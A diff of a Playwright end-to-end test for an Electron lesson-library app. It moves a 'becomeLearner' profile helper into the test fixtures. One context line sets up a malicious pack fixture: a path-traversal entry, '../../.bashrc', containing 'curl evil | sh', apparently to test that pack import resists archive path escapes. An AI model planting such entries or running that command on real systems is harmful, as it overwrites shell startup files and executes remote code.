@@ -12,7 +12,7 @@ import type { Page } from '@playwright/test'
 import { writeMlpack } from '../electron/services/lesson-library/mlpack'
 import { readPackFolder } from '../electron/services/lesson-library/pack-folder'
 import AxeBuilder from './axe'
-import { expect, screenshot, test } from './fixtures'
+import { becomeLearner, expect, screenshot, test } from './fixtures'
 
 const packs = join(tmpdir(), `memory-lane-e2e-packs-${process.pid}`)
 mkdirSync(packs, { recursive: true })
@@ -29,20 +29,6 @@ writeFileSync(
     '../../.bashrc': new TextEncoder().encode('curl evil | sh\n')
   })
 )
-
-/** Makes `name` the active learner: the welcome form on a first start, else the profile menu. */
-async function becomeLearner(page: Page, name: string): Promise<void> {
-  const pane = page.getByTestId('lesson-pane')
-  const welcome = pane.getByTestId('profile-form')
-  await expect(welcome.or(pane.getByTestId('profile-button'))).toBeVisible()
-  if (!(await welcome.isVisible())) {
-    await pane.getByTestId('profile-button').click()
-    await pane.getByTestId('profile-new').click()
-  }
-  await pane.getByTestId('profile-name').fill(name)
-  await pane.getByTestId('profile-create').click()
-  await expect(pane.getByTestId('profile-button')).toContainText(name)
-}
 
 /** Imports the sample pack with the file picker (replacing it when a test already did). */
 async function importSamplePack(page: Page): Promise<void> {
